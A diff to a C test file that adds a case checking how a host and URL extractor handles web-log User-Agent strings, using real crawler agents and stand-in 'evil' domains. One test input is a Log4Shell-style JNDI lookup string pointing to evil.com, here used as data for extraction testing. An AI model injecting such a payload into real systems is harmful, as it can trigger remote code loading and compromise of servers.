@@ -1343,6 +1343,23 @@ test_code_or_prose(void **state)
 	    "evil.run(mirror) evil.click(5 hosts) evil.app( x",
 	    "domain evil.run public\ndomain evil.click public\n"
 	    "domain evil.app public\n");
+	/* a crawler's page in its User-Agent's comment, as a web log
+	 * gives it; an agent's other URLs, and prose's */
+	expect("\"Mozilla/5.0 (compatible; Googlebot/2.1; "
+	    "+http://www.google.com/bot.html)\" \"Mozilla/5.0 (compatible; "
+	    "MJ12bot/v1.4.8; http://mj12bot.com/)\" facebookexternalhit/1.1 "
+	    "(+http://www.facebook.com/externalhit_uatext.php) (compatible; "
+	    "Bot/1.0;+http://bot.example.com/)\n"
+	    "UA: ${jndi:ldap://evil.com/a} (see; http://evil2.com/x) "
+	    "(X11; Linux; http://evil3.com/x) (http://evil4.com/y) "
+	    "(compatible; Bot) see; http://evil5.com/z "
+	    "(compatible; see http://evil6.com/a)",
+	    "domain evil.com public\n"
+	    "url http://evil2.com/x public\ndomain evil2.com public\n"
+	    "url http://evil3.com/x public\ndomain evil3.com public\n"
+	    "url http://evil4.com/y public\ndomain evil4.com public\n"
+	    "url http://evil5.com/z public\ndomain evil5.com public\n"
+	    "url http://evil6.com/a public\ndomain evil6.com public\n");
 	/* a string in a script may well hold a host */
 	expect("fetch('evil.info'); x = \"evil.top\";",
 	    "domain evil.info public\ndomain evil.top public\n");
